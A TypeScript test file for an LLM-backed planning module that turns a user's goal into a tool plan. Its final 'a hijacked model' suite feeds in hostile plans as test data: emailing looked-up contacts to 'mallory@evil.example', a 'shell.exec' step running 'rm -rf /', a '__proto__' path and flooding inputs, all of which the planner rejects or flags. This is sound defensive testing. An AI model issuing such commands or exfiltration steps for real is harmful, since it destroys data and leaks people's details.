import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { PlanDraft } from "@/lib/planning/embedded/planning-request";
import { type GoalWorkspace, openGoalWorkspace } from "@/lib/planning/goals/goal-workspace";
import { outline } from "@/lib/planning/goals/outline";
import type { PlanAnswer } from "./plan-answer";
import type { ModelPlan } from "./plan-with-model";
import { type ScriptedModel, startScriptedModel } from "./testing/scripted-model";

const apiKey = "canary-key-7f3a";
let model: ScriptedModel;
let workspace: GoalWorkspace;

beforeAll(async () => {
  [model, workspace] = await Promise.all([startScriptedModel(), openGoalWorkspace()]);
  vi.stubEnv("DATABASE_URL", "postgres://nobody@127.0.0.1:1/nothing");
  vi.stubEnv("LAMPLIGHT_MODEL", "openai-compatible/scripted");
  vi.stubEnv("LAMPLIGHT_MODEL_BASE_URL", model.baseUrl);
  vi.stubEnv("LAMPLIGHT_MODEL_API_KEY", apiKey);
});
beforeEach(() => {
  model.requests.length = 0;
  model.answers.length = 0;
});
afterAll(async () => {
  vi.unstubAllEnvs();
  await Promise.all([model.close(), workspace.close()]);
});

type AnswerStep = PlanAnswer["steps"][number];

/** A step of the model's answer, inputs by name. */
function step(
  id: string,
  toolId: string,
  inputs: Record<string, AnswerStep["inputs"][number]["value"]>,
): AnswerStep {
  return {
    id,
    title: `Step ${id}`,
    toolId,
    words: "",
    reason: "It fits.",
    after: [],
    inputs: Object.entries(inputs).map(([name, value]) => ({ name, value })),
  };
}
const value = (json: unknown, words = "") => ({ kind: "value" as const, json: JSON.stringify(json), words });
const output = (from: string, ...path: (string | number)[]) => ({
  kind: "output" as const,
  step: from,
  path,
});
const answer = (steps: AnswerStep[], more: Partial<PlanAnswer> = {}) => ({
  kind: "text" as const,
  text: JSON.stringify({ steps, unserved: [], notes: [], ...more }),
});

const goal = "Tell the on-call engineer by SMS that the nightly backup failed";
const lookup = step("s1", "directory.lookup", { who: value("on-call engineer", "on-call engineer") });
const sms = step("s2", "sms.send", {
  to: output("s1", "phones"),
  text: { kind: "text", parts: [{ kind: "words", text: "The nightly backup failed." }] },
});
const nothing: PlanDraft = { steps: [], notes: [], unserved: [] };

async function planned(
  options: { goal?: string; draft?: PlanDraft; timeoutMs?: number } = {},
): Promise<ModelPlan> {
  const { planWithModel } = await import("./plan-with-model");
  const request = await workspace.requestFor(options.goal ?? goal);
  return planWithModel({ request, draft: options.draft ?? nothing, timeoutMs: options.timeoutMs });
}

const draftOf = (plan: ModelPlan) => {
  if (plan.kind === "failed") throw new Error(plan.reason);
  return plan.draft;
};
const lastMessage = () => JSON.stringify(model.requests.at(-1)?.body.messages.at(-1)?.content);

describe("planWithModel", () => {
  it("takes a good answer as the plan", async () => {
    model.answers.push(answer([lookup, sms], { notes: ["I took SMS, as it is urgent."] }));
    const draft = draftOf(await planned());
    expect(outline(draft)).toEqual([
      's1 directory.lookup(who = "on-call engineer")',
      's2 sms.send(to = s1.phones; text = "The nightly backup failed.")',
    ]);
    expect(draft.notes).toEqual(["Planned by openai-compatible/scripted.", "I took SMS, as it is urgent."]);
    expect(draft.steps[0]?.inputs.who).toEqual({
      kind: "literal",
      value: "on-call engineer",
      origin: "person",
      words: "on-call engineer",
    });
  });

  it("shows the model the goal, the day and compact schemas, and asks for a structured answer", async () => {
    model.answers.push(answer([lookup, sms]));
    await planned();
    const [request] = model.requests;
    expect(request?.raw).toContain(goal);
    expect(request?.raw).toContain("2026");
    expect(request?.raw).toContain("directory.lookup");
    expect(request?.raw).toContain("json_schema");
  });

  it("S1: sends the key as a header only, and nothing else that is secret", async () => {
    model.answers.push(answer([lookup, sms]));
    await planned();
    const [request] = model.requests;
    expect(request?.authorization).toBe(`Bearer ${apiKey}`);
    expect(request?.raw).not.toContain(apiKey);
  });

  it("gives malformed JSON back with the reason, and takes the corrected answer", async () => {
    model.answers.push({ kind: "text", text: '{"steps": [' }, answer([lookup, sms]));
    expect(outline(draftOf(await planned()))).toHaveLength(2);
    expect(model.requests).toHaveLength(2);
    expect(lastMessage()).toContain("does not have the form asked for");
  });

  it("gives an invalid plan back with the step and input that are wrong", async () => {
    const dangling = step("s2", "sms.send", { ...{ to: output("s9", "phones") }, text: value("Failed.") });
    model.answers.push(answer([lookup, dangling]), answer([lookup, sms]));
    expect(outline(draftOf(await planned()))).toHaveLength(2);
    expect(lastMessage()).toContain("s9");
  });

  it("gives up after two corrections, saying why", async () => {
    model.answers.push(answer([step("s1", "pizza.order", {})]));
    const plan = await planned();
    expect(model.requests).toHaveLength(3);
    expect(plan).toEqual({
      kind: "failed",
      reason: expect.stringContaining(
        'its plan was refused three times, the last time because: There is no tool "pizza.order"',
      ),
    });
  });

  it("fails within its time when the model is slow", async () => {
    // Longer than the test may take: it fails when the answer is waited for.
    model.answers.push({ kind: "slow", afterMs: 60_000 });
    expect(await planned({ timeoutMs: 300 })).toEqual({
      kind: "failed",
      reason: "it took too long to answer.",
    });
  });

  it("says which error the service answered with", async () => {
    model.answers.push({ kind: "status", status: 500 });
    expect(await planned()).toEqual({
      kind: "failed",
      reason: "its service answered with an error (HTTP 500).",
    });
    model.answers.splice(0, 1, { kind: "status", status: 401 });
    expect(await planned()).toEqual({
      kind: "failed",
      reason: "its service refused the key (HTTP 401). Check LAMPLIGHT_MODEL_API_KEY.",
    });
  });

  it("asks again when the model plans nothing although there is something to do", async () => {
    const embedded = await workspace.plan(goal);
    model.answers.push(answer([]), answer([lookup, sms]));
    expect(outline(draftOf(await planned({ draft: embedded })))).toHaveLength(2);
  });

  it("keeps what the model says is not served", async () => {
    model.answers.push(answer([], { unserved: ["water my plants"] }));
    expect(draftOf(await planned({ goal: "water my plants" })).unserved).toEqual([
      { words: "water my plants", nearest: [] },
    ]);
  });
});

describe("a hijacked model", () => {
  const outsider = "mallory@evil.example";

  it("A2: cannot pass an outsider's address off as the person's words", async () => {
    const leak = step("s2", "email.send", {
      to: value([outsider], "on-call engineer"),
      subject: value("Backup"),
      text: { kind: "text", parts: [output("s1", "emails")] },
    });
    model.answers.push(answer([lookup, leak]));
    const draft = draftOf(await planned());
    // It is at worst a step the person sees, whose address is marked as the plan's own.
    expect(draft.steps[1]?.inputs.to).toMatchObject({ value: [outsider], origin: "constant" });
  });

  it("A1: cannot use a tool that is not in the catalogue, nor an input a tool doesn't have", async () => {
    model.answers.push(answer([step("s1", "shell.exec", { command: value("rm -rf /") })]));
    expect((await planned()).kind).toBe("failed");
    model.answers.splice(
      0,
      1,
      answer([step("s1", "directory.lookup", { who: value("all"), exec: value("x") })]),
    );
    expect((await planned()).kind).toBe("failed");
  });

  it("P1: cannot reach a prototype through a path", async () => {
    const reaching = step("s2", "sms.send", {
      to: output("s1", "__proto__", "constructor"),
      text: value("x"),
    });
    model.answers.push(answer([lookup, reaching]));
    expect((await planned()).kind).toBe("failed");
  });

  it("cannot flood the plan: titles, notes and steps are bounded", async () => {
    const long = "x".repeat(50_000);
    const steps = [{ ...lookup, title: long, reason: long, words: long }];
    model.answers.push(answer(steps, { notes: Array.from({ length: 500 }, () => long) }));
    const draft = draftOf(await planned());
    expect(draft.steps[0]?.title.length).toBeLessThanOrEqual(200);
    expect(draft.steps[0]?.why.reason.length).toBeLessThanOrEqual(500);
    expect(draft.notes.length).toBeLessThanOrEqual(21);
  });
});
